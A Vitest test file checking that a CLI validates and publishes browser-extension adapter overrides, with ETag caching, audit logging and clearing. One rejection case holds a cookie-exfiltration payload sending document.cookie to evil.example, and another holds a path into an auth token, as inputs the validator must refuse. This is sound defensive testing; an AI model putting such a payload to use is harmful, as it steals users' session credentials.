import fs from 'node:fs';
import path from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { runCli } from '../helpers/cli.ts';
import { bodyOf, createTestApp, type TestApp } from '../helpers/test-app.ts';

/** The operator publishes with the CLI; the extension reads GET /api/v1/journal-overrides. */
describe('journal adapter overrides', () => {
  let t: TestApp;
  let env: NodeJS.ProcessEnv;

  beforeAll(async () => {
    t = await createTestApp();
    env = { PROFROST_DATA_DIR: t.dataDir, PROFROST_PUBLIC_URL: 'http://localhost:8787' };
  });
  afterAll(() => t.dispose());

  async function publish(document: unknown): Promise<{ code: number | null; output: string }> {
    const file = path.join(t.dataDir, 'overrides.json');
    fs.writeFileSync(file, typeof document === 'string' ? document : JSON.stringify(document));
    const cli = runCli(['journals', 'publish', file], env);
    return { code: await cli.exited, output: cli.output() };
  }
  const served = async () => bodyOf(await t.app.request('/api/v1/journal-overrides'));
  const audit = (action: string) =>
    t.db.prepare('SELECT actor, details_json FROM audit_log WHERE action = ? ORDER BY id').all(action) as { actor: string; details_json: string }[];

  it('serves the empty document before anything is published, without a token', async () => {
    const response = await t.app.request('/api/v1/journal-overrides');
    expect(response.status).toBe(200);
    expect(response.headers.get('cache-control')).toBe('public, max-age=300');
    expect(await response.json()).toEqual({ version: 1, adapters: [] });
  });

  const killSwitch = {
    version: 1,
    adapters: [
      { id: 'sgo', enabled: false },
      { id: 'demo', teacherPages: ['^/demo/journal/?$'], requireSelector: null },
    ],
  };

  it('publishes a valid document; it is served with an ETag and revalidates with 304', async () => {
    const result = await publish(killSwitch);
    expect(result.output).toContain('Опубликованы поправки адаптеров: sgo, demo');
    expect(result.code).toBe(0);

    const response = await t.app.request('/api/v1/journal-overrides');
    expect(await response.json()).toEqual(killSwitch);
    const tag = response.headers.get('etag');
    expect(tag).toBeTruthy();
    const again = await t.app.request('/api/v1/journal-overrides', { headers: { 'if-none-match': tag! } });
    expect(again.status).toBe(304);
    expect(again.headers.get('cache-control')).toBe('public, max-age=300');
    expect(await again.text()).toBe('');

    expect(audit('journal_overrides.publish')).toEqual([{ actor: 'cli', details_json: JSON.stringify({ adapters: ['sgo', 'demo'] }) }]);
  });

  it.each([
    ['an unknown adapter', { version: 1, adapters: [{ id: 'new-journal', enabled: false }] }, 'no built-in adapter "new-journal"'],
    ['a host the extension was not built for', { version: 1, adapters: [{ id: 'sgo', hosts: ['https://evil.example/*'] }] }, 'https://evil.example/*'],
    ['an unknown field', { version: 1, adapters: [{ id: 'sgo', enabled: false, colour: 'red' }] }, 'colour'],
    ['a field that carries code', { version: 1, adapters: [{ id: 'sgo', onDetect: 'fetch("https://evil.example/?" + document.cookie)' }] }, 'onDetect'],
    [
      'a global path into credentials',
      {
        version: 1,
        adapters: [{ id: 'sgo', identity: { source: 'pageGlobal', confidence: 'confirmed', global: 'appContext', fields: { name: ['user.authToken'] } } }],
      },
      'credential',
    ],
    ['another version', { version: 2, adapters: [] }, 'version'],
  ])('refuses %s, lists the problem and changes nothing', async (_, document, problem) => {
    const before = await t.app.request('/api/v1/journal-overrides');
    const result = await publish(document);
    expect(result.code).toBe(1);
    expect(result.output).toContain(problem);
    expect(result.output).toContain('Поправки не опубликованы');
    expect(result.output).not.toContain('    at '); // a sentence, not a stack trace
    const after = await t.app.request('/api/v1/journal-overrides');
    expect(after.headers.get('etag')).toBe(before.headers.get('etag'));
    expect(await after.json()).toEqual(killSwitch);
  });

  it('names the entry a problem is in', async () => {
    const result = await publish({
      version: 1,
      adapters: [
        { id: 'sgo', enabled: false },
        { id: 'eljur', mount: 'sideways' },
      ],
    });
    expect(result.code).toBe(1);
    expect(result.output).toMatch(/Поправка № 2 \(«eljur»\).*mount/);
    expect(result.output).not.toContain('Поправка № 1');
  });

  it('refuses a file that is not JSON, and a missing file, with a sentence', async () => {
    const broken = await publish('{"version": 1,');
    expect(broken.code).toBe(1);
    expect(broken.output).toContain('не является документом JSON');
    const missing = runCli(['journals', 'publish', path.join(t.dataDir, 'nope.json')], env);
    expect(await missing.exited).toBe(1);
    expect(missing.output()).toContain('не найден');
    expect(await served()).toEqual(killSwitch);
  });

  it('clears: the empty document is served again, under a new ETag', async () => {
    const before = (await t.app.request('/api/v1/journal-overrides')).headers.get('etag');
    const cli = runCli(['journals', 'clear'], env);
    expect(await cli.exited).toBe(0);
    expect(cli.output()).toContain('Поправки отменены');
    const response = await t.app.request('/api/v1/journal-overrides', { headers: { 'if-none-match': before! } });
    expect(response.status).toBe(200);
    expect(await response.json()).toEqual({ version: 1, adapters: [] });
    expect(audit('journal_overrides.clear')).toHaveLength(1);
  });
});
